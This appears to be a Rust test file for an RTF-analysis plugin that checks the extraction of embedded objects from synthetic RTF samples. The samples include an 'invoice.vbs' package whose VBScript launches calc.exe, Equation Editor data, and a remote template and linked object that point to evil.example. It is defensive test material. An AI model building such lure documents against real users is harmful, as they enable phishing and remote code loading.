//! RTF documents written here, run through [`PluginTest`] as the host runs the plugin.
//! Object classes, sizes, offsets and package file names are compared with oletools'
//! rtfobj 0.60.2 on the same files (`STOQ_GOLDEN_SAMPLES=/tmp/rtf cargo test -p
//! stoq-plugin-rtf golden` writes them); its values are written below.

use std::time::{Duration, Instant};

use stoq_plugin_abi::testing::{PluginTest, TestError};

use super::*;
use stoq_tests::response::{children, messages, results};

use stoq_tests::formats::rtf::{junk_hex, lpas, ole1, package};
use stoq_tests::golden;

fn scan(data: &[u8]) -> WorkerResponse {
    PluginTest::<Rtf>::new().scan(data).expect("scans")
}

const SCRIPT: &[u8] = b"Set s = CreateObject(\"WScript.Shell\")\r\ns.Run \"calc.exe\"\r\n";

/// Equation Editor native data (an `EQNOLEFILEHDR` followed by MTEF bytes).
const EQUATION: &[u8] = b"\x1c\x00\x00\x00\x02\x00\x9e\xc4\xa9\x00\x00\x00\x00\x00\x00\x00\xc8\xa7\x5c\x00\xc4\xee\x5b\x00\x00\x00\x00\x00\x03\x01\x01\x03\x0a\x0a\x01\x08\x5a\x5a";

fn sample_rtf() -> Vec<u8> {
    let pkg = ole1(
        b"Package",
        &package(
            b"invoice.vbs",
            b"C:\\Users\\bob\\Desktop\\invoice.vbs",
            b"C:\\Users\\bob\\AppData\\Local\\Temp\\invoice.vbs",
            SCRIPT,
        ),
    );
    let eq = ole1(b"Equation.3", EQUATION);
    format!(
        "{{\\rtf1\\ansi\\deff0{{\\fonttbl{{\\f0 Times New Roman;}}}}\r\n\
         {{\\*\\template http://evil.example/remote.dotm}}\r\n\
         \\pard Dear customer,\\par\r\n\
         {{\\object\\objemb\\objupdate\\objw1200\\objh400{{\\*\\objclass Package}}{{\\*\\objdata {}}}{{\\result {{\\pict\\wmetafile8 0100}}}}}}\r\n\
         {{\\object\\objemb{{\\*\\objclass Equation.3}}{{\\*\\objdata\r\n{}\r\n}}}}\r\n\
         }}\r\n",
        junk_hex(&pkg),
        junk_hex(&eq)
    )
    .into_bytes()
}

#[test]
fn package_and_equation_objects_are_decoded_and_extracted() {
    let rtf = sample_rtf();
    let response = scan(&rtf);
    assert_eq!(messages(&response), Vec::<String>::new());
    let r = results(&response);
    // rtfobj (oletools 0.60.2, which calls itself 0.60.1) on this file: object 0 at index
    // 0xC6 to 0x34E, 194 bytes, format_id 2, class Package, data size 160, "OLE Package
    // object" invoice.vbs with these source and temp paths, MD5
    // d23ffc4feec2a11dc0dad9e2836e74b4 (SCRIPT's); object 1 at 0x3A5 to 0x4A1, 75 bytes,
    // class Equation.3, data size 38.
    let package_at = 0xC6;
    let equation_at = 0x3A5;
    assert_eq!(r["objects"][0]["offset"], package_at);
    assert_eq!(r["objects"][1]["offset"], equation_at);
    assert_eq!(r["objects"][0]["objclass"], "Package");
    assert_eq!(r["objects"][0]["object_kind"], "objemb");
    assert_eq!(
        r["objects"][0]["ole"],
        json!({"version": 0x501, "format": "embedded", "class_name": "Package", "topic": "", "item": "",
               "declared_size": 160, "native_size": 160, "native_format": null})
    );
    assert_eq!(
        r["objects"][0]["package"],
        // As stoq writes bytes: each backslash doubled.
        json!({"filename": "invoice.vbs", "source_path": "C:\\\\Users\\\\bob\\\\Desktop\\\\invoice.vbs",
               "temp_path": "C:\\\\Users\\\\bob\\\\AppData\\\\Local\\\\Temp\\\\invoice.vbs",
               "declared_size": SCRIPT.len(), "size": SCRIPT.len()})
    );
    assert_eq!(r["objects"][1]["ole"]["class_name"], "Equation.3");
    assert_eq!(r["objects"][1]["ole"]["native_size"], EQUATION.len());
    assert_eq!(r["objects"][1]["extracted_as"], "Equation.3.bin");
    assert_eq!(r["objects"][0]["end"], 0x34E);
    assert_eq!(r["objects"][0]["size"], 194);
    assert_eq!(r["objects"][1]["end"], 0x4A1);
    assert_eq!(r["objects"][1]["size"], 75);
    // The junk: "zz" and "-_-" three times each.
    assert_eq!(r["objects"][1]["non_hex_chars"], 15);
    assert_eq!(
        r["control_words"],
        json!({"object": 2, "objdata": 2, "objclass": 2, "objemb": 2, "objlink": 0, "objautlink": 0,
               "objupdate": 1, "objsub": 0, "objpub": 0, "objicemb": 0, "objhtml": 0, "objocx": 0})
    );
    assert_eq!(r["templates"], json!(["http://evil.example/remote.dotm"]));
    assert_eq!(
        children(&response),
        [
            ("invoice.vbs".to_owned(), SCRIPT.to_vec()),
            ("Equation.3.bin".to_owned(), EQUATION.to_vec()),
        ]
    );
    let meta = &response.extracted[1].payload_meta.extra_data;
    assert_eq!(meta["class_name"], "Equation.3");
    assert_eq!(meta["rtf_offset"], equation_at);
}

#[test]
fn objdata_outside_an_object_and_not_ole_is_extracted_raw() {
    // Odd-length hex: the last digit is dropped (rtfobj: 3 bytes, "Not a well-formed OLE
    // object").
    let response = scan(b"{\\rtf1{\\*\\objdata 4d5a90}}{\\*\\objdata 4d5a900}");
    assert_eq!(messages(&response), Vec::<String>::new());
    let r = results(&response);
    assert_eq!(r["objects"][0]["objclass"], Value::Null);
    assert_eq!(
        r["objects"][0]["not_ole"],
        "OLEVersion at byte 0: past the end (3 bytes)"
    );
    assert_eq!(
        children(&response),
        [
            ("object_00000011.raw".to_owned(), b"MZ\x90".to_vec()),
            ("object_00000025.raw".to_owned(), b"MZ\x90".to_vec()),
        ]
    );
}

#[test]
fn golden() {
    let test = PluginTest::<Rtf>::new();
    let word = {
        let mut doc = vec![0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1];
        doc.resize(1536, 0);
        ole1(b"Word.Document.8", &doc)
    };
    let linked = {
        let mut out = 0x0000_0501u32.to_le_bytes().to_vec();
        out.extend_from_slice(&1u32.to_le_bytes());
        out.extend(lpas(b"Word.Document.8"));
        out.extend(lpas(b"http://evil.example/doc.rtf"));
        out.extend(lpas(b""));
        out
    };
    let samples: Vec<(&str, Vec<u8>)> = vec![
        ("sample", sample_rtf()),
        (
            "word_and_link",
            format!(
                "{{\\rtf1{{\\object\\objemb{{\\*\\objclass Word.Document.8}}{{\\*\\objdata {}}}}}{{\\object\\objautlink\\objupdate{{\\*\\objdata {}}}}}}}",
                junk_hex(&word),
                junk_hex(&linked)
            )
            .into_bytes(),
        ),
    ];
    let cases: Vec<(String, Value)> = samples
        .iter()
        .map(|(name, data)| {
            golden::dump_sample(&format!("{name}.rtf"), data);
            (
                format!("{name}.json"),
                golden::worker_output(&test.scan(data)),
            )
        })
        .collect();
    golden::check(env!("CARGO_MANIFEST_DIR"), env!("CARGO_PKG_NAME"), &cases);
}

fn finishes(test: &PluginTest<Rtf>, data: &[u8], limit: Duration) -> WorkerResponse {
    let start = Instant::now();
    let outcome = test.scan(data);
    assert!(start.elapsed() < limit, "took {:?}", start.elapsed());
    outcome.unwrap_or_else(|e| panic!("{e}"))
}

#[test]
fn truncated_and_corrupted_documents_never_panic() {
    let test = PluginTest::<Rtf>::new();
    let rtf = sample_rtf();
    for cut in 0..rtf.len() {
        finishes(&test, &rtf[..cut], Duration::from_secs(2));
    }
    for at in (0..rtf.len()).step_by(2) {
        let mut broken = rtf.clone();
        broken[at] ^= 0x20;
        finishes(&test, &broken, Duration::from_secs(2));
    }
    // Cut inside the package's file data: its header says more than is there.
    let at = rtf.windows(10).position(|w| w == b"{\\*\\objcla").unwrap();
    let response = finishes(&test, &rtf[..at + 600], Duration::from_secs(2));
    assert_eq!(
        messages(&response),
        [
            "3 groups not closed at the end of the document",
            "object at offset 198 (Package): declared native data size 160 but 136 bytes follow",
            "object at offset 198 (Package): package declares 57 bytes of file data but 33 follow",
        ]
    );
}

#[test]
fn unbalanced_braces_are_errors() {
    let response = scan(b"}}{\\rtf1{\\*\\objdata 01050000}}}{{{");
    assert_eq!(
        messages(&response),
        [
            "does not start with {\\rt (read as RTF all the same)",
            "3 groups not closed at the end of the document",
            "3 closing braces without an open group, the first at offset 0",
        ]
    );
    assert_eq!(results(&response)["objects"][0]["size"], 4);
}

#[test]
fn a_million_nested_groups_cost_linear_time() {
    let mut rtf = b"{\\rtf1".to_vec();
    rtf.extend(std::iter::repeat_n(b'{', 1_000_000));
    rtf.extend_from_slice(b"\\object{\\*\\objdata 0102}");
    rtf.extend(std::iter::repeat_n(b'}', 1_000_000));
    rtf.push(b'}');
    let test = PluginTest::<Rtf>::new();
    let response = finishes(&test, &rtf, Duration::from_secs(10));
    assert_eq!(results(&response)["max_group_depth"], 1_000_002);
    assert_eq!(results(&response)["objects"], json!([]));
    assert_eq!(
        messages(&response),
        [
            "2 destinations in groups deeper than max_depth (10000), the first at offset 1000006: ignored"
        ]
    );
    // Within max_depth, the object is found.
    let response = PluginTest::<Rtf>::new()
        .option("max_depth", 2_000_000)
        .scan(&rtf)
        .unwrap();
    assert_eq!(results(&response)["objects"][0]["size"], 2);
    // Never closed: counted, not kept.
    let response = finishes(&test, &rtf[..1_000_030], Duration::from_secs(10));
    assert_eq!(
        messages(&response)[0],
        "1000001 groups not closed at the end of the document"
    );
}

#[test]
fn huge_declared_sizes_are_checked_against_the_data() {
    // A class name longer than the object.
    let mut bad_class = 0x501u32.to_le_bytes().to_vec();
    bad_class.extend_from_slice(&2u32.to_le_bytes());
    bad_class.extend_from_slice(&0xffff_fff0u32.to_le_bytes());
    bad_class.extend_from_slice(b"Package\0");
    // Native data and package data sizes of 4 GiB.
    let mut huge_native = ole1(b"Equation.3", EQUATION);
    let at = huge_native.len() - EQUATION.len() - 4;
    huge_native[at..at + 4].copy_from_slice(&u32::MAX.to_le_bytes());
    let mut pkg = package(b"a.exe", b"a.exe", b"a.exe", b"MZ");
    let at = pkg.len() - 6;
    pkg[at..at + 4].copy_from_slice(&u32::MAX.to_le_bytes());
    let huge_package = ole1(b"Package", &pkg);
    let rtf = format!(
        "{{\\rtf1{{\\*\\objdata {}}}{{\\*\\objdata {}}}{{\\*\\objdata {}}}{{\\*\\objdata\\bin4294967295 x}}}}",
        hex(&bad_class),
        hex(&huge_native),
        hex(&huge_package)
    );
    let test = PluginTest::<Rtf>::new();
    let response = finishes(&test, rtf.as_bytes(), Duration::from_secs(2));
    let r = results(&response);
    assert_eq!(
        r["objects"][0]["not_ole"],
        "ClassName at byte 8: declared length 4294967280 is past the end (20 bytes)"
    );
    assert_eq!(r["objects"][1]["ole"]["declared_size"], u32::MAX);
    assert_eq!(r["objects"][1]["ole"]["native_size"], EQUATION.len());
    assert_eq!(r["objects"][2]["package"]["declared_size"], u32::MAX);
    assert_eq!(r["objects"][2]["package"]["size"], 2);
    let offsets: Vec<u64> = (0..3)
        .map(|i| r["objects"][i]["offset"].as_u64().unwrap())
        .collect();
    assert_eq!(
        messages(&response),
        [
            // \bin takes the rest of the file: its group never closes.
            "\\bin4294967295 at offset 382: only 3 bytes follow".to_owned(),
            "2 groups not closed at the end of the document".to_owned(),
            format!(
                "object at offset {} (Equation.3): declared native data size 4294967295 but 38 bytes follow",
                offsets[1]
            ),
            format!(
                "object at offset {} (Package): package declares 4294967295 bytes of file data but 2 follow",
                offsets[2]
            ),
        ]
    );
    assert_eq!(
        children(&response)
            .iter()
            .map(|(n, c)| (n.as_str(), c.len()))
            .collect::<Vec<_>>(),
        [
            ("object_00000011.raw", 20),
            ("Equation.3.bin", 38),
            ("a.exe", 2),
            // " x}}": what \bin took, as raw bytes.
            ("object_0000017E.raw", 3),
        ]
    );
}

fn hex(bytes: &[u8]) -> String {
    bytes.iter().map(|b| format!("{b:02x}")).collect()
}

#[test]
fn long_control_words_and_limits() {
    let mut rtf = b"{\\rtf1\\".to_vec();
    rtf.extend(std::iter::repeat_n(b'a', 1_000_000));
    rtf.extend_from_slice(b" {\\*\\objdata 0102030405}}");
    let test = PluginTest::<Rtf>::new();
    let response = finishes(&test, &rtf, Duration::from_secs(5));
    assert_eq!(
        messages(&response),
        ["control word of 1000000 letters at offset 6 (more than 250): ignored"]
    );
    assert_eq!(results(&response)["objects"][0]["size"], 5);
    let response = PluginTest::<Rtf>::new()
        .option("max_object_size", 2)
        .option("max_objects", 1)
        .scan(b"{\\rtf1{\\*\\objdata 0102030405}{\\*\\objdata 01}}")
        .unwrap();
    assert_eq!(results(&response)["objects"][0]["size"], 2);
    assert_eq!(
        messages(&response),
        [
            "limit max_objects (1) reached: 1 more \\objdata not decoded",
            "object at offset 17: 3 decoded bytes over the limits (max_object_size 2, max_total_size 268435456) not kept",
        ]
    );
}

#[test]
fn bad_options_are_rejected_with_their_key() {
    for key in [
        "max_depth",
        "max_objects",
        "max_object_size",
        "max_total_size",
    ] {
        let outcome = PluginTest::<Rtf>::new().option(key, 0).scan(b"{\\rtf1}");
        let Err(TestError::Config(message)) = outcome else {
            panic!("{key}: {outcome:?}");
        };
        assert_eq!(
            message,
            format!("plugin `rtf`: option `{key}`: must be positive, got 0")
        );
    }
}

/// Throughput: `cargo test --release -p stoq-plugin-rtf -- --ignored bench --nocapture`.
#[test]
#[ignore]
fn bench() {
    // About 1 MiB of text and formatting around a 200 KiB embedded package.
    let mut rtf = b"{\\rtf1\\ansi{\\fonttbl{\\f0 Arial;}}".to_vec();
    for i in 0..12_000 {
        rtf.extend_from_slice(
            format!(
                "\\pard\\f0\\fs{} Paragraph {i} of the letter.\\par\r\n",
                20 + i % 8
            )
            .as_bytes(),
        );
    }
    let data: Vec<u8> = (0..200_000u32).map(|i| (i * 7 % 251) as u8).collect();
    let pkg = ole1(
        b"Package",
        &package(b"a.exe", b"C:\\a.exe", b"C:\\t\\a.exe", &data),
    );
    rtf.extend_from_slice(
        format!(
            "{{\\object\\objemb{{\\*\\objclass Package}}{{\\*\\objdata {}}}}}}}",
            junk_hex(&pkg)
        )
        .as_bytes(),
    );
    std::fs::write("/tmp/rtf_bench.rtf", &rtf).unwrap();
    let test = PluginTest::<Rtf>::new();
    let runs = 20;
    let start = Instant::now();
    for _ in 0..runs {
        test.scan(&rtf).unwrap();
    }
    let each = start.elapsed() / runs;
    println!(
        "rtf: {} bytes in {each:?} per scan ({:.1} MB/s); written to /tmp/rtf_bench.rtf",
        rtf.len(),
        rtf.len() as f64 / each.as_secs_f64() / 1e6
    );
}
